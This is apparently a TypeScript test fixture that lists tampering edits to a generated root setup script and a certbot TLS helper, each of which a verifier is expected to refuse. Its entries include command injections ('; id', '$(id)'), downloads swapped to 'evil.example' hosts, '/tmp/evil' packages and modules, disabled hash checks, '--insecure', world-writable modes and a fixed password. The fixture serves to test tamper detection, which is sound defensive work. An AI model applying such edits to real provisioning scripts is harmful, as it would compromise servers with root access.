import { mayPass, refused } from './brief.ts';
import type { Edit, SabotagesOfKind } from './sabotage.ts';

const tls = '/usr/local/sbin/openfaas-tls';
const file = 'apply.sh';
const line = (find: string, put: string): Edit => ({ file, find, put });
const several = 'server-and-agents';
const every = 'every-option';

/** Text in the places of a root script where a value belongs, and lines that are in no template. */
export const scripts: SabotagesOfKind = [
  refused('a line at the end', 'verify/script-edited', { file, put: 'id\n' }),
  refused('a line in the middle', 'verify/script-edited', line("begin 'system'\n", "begin 'system'\nid\n")),
  refused(
    'a command behind the name of the system',
    'verify/script-edited',
    line('[ "$system" = debian-12 ]', '[ "$system" = debian-12; id ]'),
  ),
  refused(
    'a command in the list of packages',
    'verify/socket-open',
    line('packages=(apparmor ', 'packages=(apparmor $(id) '),
  ),
  refused(
    'an option of apt in the list of packages',
    'verify/script-edited',
    line('packages=(apparmor ', 'packages=(--allow-unauthenticated apparmor '),
  ),
  refused(
    'a package file by its path',
    'verify/socket-open',
    line('packages=(apparmor ', 'packages=(/tmp/evil.deb apparmor '),
  ),
  refused(
    'a command behind the modules',
    'verify/script-edited',
    line('modprobe --all nf_conntrack\n', 'modprobe --all nf_conntrack; id\n'),
  ),
  refused(
    'a module by its path',
    'verify/script-edited',
    line('modprobe --all nf_conntrack\n', 'modprobe --all nf_conntrack /tmp/evil.ko\n'),
  ),
  refused(
    'a command behind the file of the kernel',
    'verify/script-edited',
    line(
      'sysctl --quiet --load=/etc/sysctl.d/99-serverless.conf',
      'sysctl --quiet --load=/etc/sysctl.d/99-serverless.conf; id',
    ),
  ),
  refused(
    'another file of the kernel',
    'verify/script-edited',
    line('sysctl --quiet --load=/etc/sysctl.d/99-serverless.conf', 'sysctl --quiet --load=/tmp/evil.conf'),
  ),
  refused(
    'a command behind a hash',
    'verify/script-edited',
    line(
      '/install.sh" ed01f89fd977bf20ac1516bbebf8370bf3ddbaa55dac8aba610956a4c78cc00b',
      '/install.sh" ed01f89fd977bf20ac1516bbebf8370bf3ddbaa55dac8aba610956a4c78cc00b || true',
    ),
  ),
  refused(
    'a check of a hash that may fail',
    'verify/script-edited',
    line('verify_listed "$work/k3s" k3s\n', 'verify_listed "$work/k3s" k3s || true\n'),
    'gitops-argocd',
  ),
  refused(
    'a list of hashes from elsewhere',
    'verify/download-elsewhere',
    line(
      'fetch https://github.com/k3s-io/k3s/releases/download/v1.37.1%2Bk3s1/sha256sum-amd64.txt',
      'fetch http://evil.example/sums',
    ),
    'gitops-argocd',
  ),
  refused(
    'the binary from elsewhere, by the old list',
    'verify/download-elsewhere',
    line(
      'fetch https://github.com/k3s-io/k3s/releases/download/v1.36.5%2Bk3s1/k3s "',
      'fetch https://github.com/evil/k3s/releases/download/v1.36.5%2Bk3s1/k3s "',
    ),
  ),
  refused(
    'the binary and the list from elsewhere',
    'verify/download-elsewhere',
    {
      file,
      find: 'https://github.com/k3s-io/k3s/releases/download/v1.37.1%2Bk3s1/sha256sum',
      put: 'https://evil.example/v1.37.1%2Bk3s1/sha256sum',
    },
    'gitops-argocd',
  ),
  refused(
    'the binary without https',
    'verify/download-elsewhere',
    line(
      'fetch https://github.com/k3s-io/k3s/releases/download/v1.36.5%2Bk3s1/k3s "',
      'fetch http://github.com/k3s-io/k3s/releases/download/v1.36.5%2Bk3s1/k3s "',
    ),
  ),
  refused(
    'another binary under a good name',
    'verify/script-edited',
    line('verify_listed "$work/k3s" k3s\n', 'verify_listed "$work/k3s" evil\n'),
    'gitops-argocd',
  ),
  refused(
    'an argument for the installer',
    'verify/script-edited',
    line(
      'sh "$work/install.sh" server\n',
      'sh "$work/install.sh" server --kubelet-arg=anonymous-auth=true\n',
    ),
  ),
  refused(
    'a variable for the installer',
    'verify/script-edited',
    line(
      'INSTALL_K3S_SKIP_START=true',
      'INSTALL_K3S_SKIP_START=true INSTALL_K3S_EXEC=--disable-network-policy',
    ),
  ),
  refused(
    'a command behind a port',
    'verify/script-edited',
    line('port_for 80 nginx\n', 'port_for 80 nginx; id\n'),
  ),
  refused(
    'a port by a command',
    'verify/script-edited',
    line('port_for 80 nginx\n', 'port_for $(id) nginx\n'),
  ),
  refused(
    'a Secret in another namespace',
    'verify/script-edited',
    line('ensure_secret openfaas basic-auth\n', 'ensure_secret openfaas basic-auth; id\n'),
  ),
  refused(
    'a password that is known',
    'verify/script-edited',
    line('head -c 24 /dev/urandom | base64 --wrap=0', 'echo secret'),
  ),
  refused(
    'curl that believes any certificate',
    'verify/script-edited',
    line('curl --fail --silent', 'curl --insecure --fail --silent'),
  ),
  refused(
    'a command behind the memory',
    'verify/script-edited',
    line('[ "$memory" -ge 1800 ]', '[ "$memory" -ge 1800 ] && id && [ 1 ]'),
  ),
  refused(
    'a command in a text about the node',
    'verify/script-edited',
    line('the script is for oslo-1"', 'the script is for $(id)"'),
  ),
  refused(
    'a command in the comment that says who made it',
    'verify/schema',
    line('# Generated by Fjord from platform.config.ts. Do not edit', '# x\rid #'),
  ),
  refused(
    'one file on the node twice',
    'verify/schema',
    line(
      'remove_others\nif',
      "put 0755 /usr/local/sbin/openfaas-tls <<'END'\n#!/bin/bash\nid\nEND\nremove_others\nif",
    ),
  ),
  refused(
    'a file whose end is not quoted',
    'verify/schema',
    line("put 0644 /etc/apt/apt.conf.d/52fjord <<'END'\n", 'put 0644 /etc/apt/apt.conf.d/52fjord <<END\n'),
  ),
  refused(
    'a file that all may write',
    'verify/node-file-mode',
    line('put 0755 /usr/local/sbin/openfaas-tls', 'put 0777 /usr/local/sbin/openfaas-tls'),
  ),
  refused(
    'a file with the right to be root',
    'verify/node-file-mode',
    line('put 0644 /etc/nginx/nginx.conf', 'put 0666 /etc/nginx/nginx.conf'),
  ),
  refused('certbot runs a command before', 'verify/script-edited', {
    file: tls,
    find: ' --webroot --webroot-path',
    put: ' --pre-hook id --webroot --webroot-path',
  }),
  refused('certbot asks an authority that it does not check', 'verify/script-edited', {
    file: tls,
    find: ' --webroot --webroot-path',
    put: ' --no-verify-ssl --webroot --webroot-path',
  }),
  refused('certbot is given another configuration', 'verify/script-edited', {
    file: tls,
    find: ' --webroot --webroot-path',
    put: ' --config /tmp/c.ini --webroot --webroot-path',
  }),
  refused('certbot gets a command in an option', 'verify/script-edited', {
    file: tls,
    find: '--email drift@your-domain.no',
    put: '--email $(id)',
  }),
  refused('certbot runs another program behind', 'verify/script-edited', {
    file: tls,
    find: "--deploy-hook '/usr/local/sbin/openfaas-tls deploy'",
    put: '--deploy-hook id',
  }),
  refused('certbot lets a plugin do what it wants', 'verify/script-edited', {
    file: tls,
    find: ' --webroot --webroot-path',
    put: ' --manual-auth-hook /tmp/x --webroot --webroot-path',
  }),
  refused('a name of a certificate that is a command', 'verify/certificate-of-other-names', {
    file: tls,
    find: 'domains=(functions.your-domain.no)',
    put: 'domains=(functions.your-domain.no $(id))',
  }),
  refused('a name of a certificate that leads out of its directory', 'verify/certificate-of-other-names', {
    file: tls,
    find: 'domains=(functions.your-domain.no)',
    put: 'domains=(functions.your-domain.no ../../tmp)',
  }),
  refused('a certificate for somebody', 'verify/certificate-of-other-names', {
    file: tls,
    find: 'domains=(functions.your-domain.no)',
    put: 'domains=(functions.your-domain.no evil.example)',
  }),
  refused('the suffix of a certificate is a command', 'verify/script-edited', {
    file: tls,
    find: 'name=$domain\n',
    put: 'name=$domain; id\n',
  }),
  refused(
    'a node joins at a command',
    'verify/script-edited',
    { file, node: 'bergen-2', find: "'the first server, 203.0.113.10'", put: "'the first server, '$(id)" },
    several,
  ),
  refused(
    'a node joins elsewhere by the script',
    'verify/script-edited',
    { file, node: 'bergen-2', find: ':6443/cacerts', put: ':6443/cacerts; id' },
    several,
  ),
  refused(
    'a token from a file of somebody',
    'verify/script-edited',
    {
      file,
      node: 'bergen-2',
      find: 'token_in /etc/rancher/k3s/agent-token\n',
      put: 'token_in /etc/rancher/k3s/agent-token; id\n',
    },
    several,
  ),
  refused(
    'a group of a command',
    'verify/script-edited',
    { file, find: 'groupadd --force --system ops\n', put: 'groupadd --force --system ops; id\n' },
    'three-servers',
  ),
  refused(
    "a key more of nginx' packages",
    'verify/script-edited',
    { file, find: '--batch --quiet --export ', put: '--batch --quiet --export 0xEVIL ' },
    every,
  ),
  refused(
    'an option behind an address of packages',
    'verify/script-edited',
    {
      file,
      find: 'fetch https://mirror.example.fi/nginx/keys/nginx_signing.key',
      put: 'fetch https://mirror.example.fi/nginx/keys/nginx_signing.key$(id)',
    },
    every,
  ),
  mayPass(
    'the node needs a little more memory',
    "K3s' own requirement may grow with a newer Fjord",
    line(
      '"$memory" -ge 1800 ] || fail "$memory MiB of memory; nodes.oslo-1.memory needs 1800, and a server needs 1800"',
      '"$memory" -ge 1801 ] || fail "$memory MiB of memory; nodes.oslo-1.memory needs 1801, and a server needs 1801"',
    ),
  ),
];
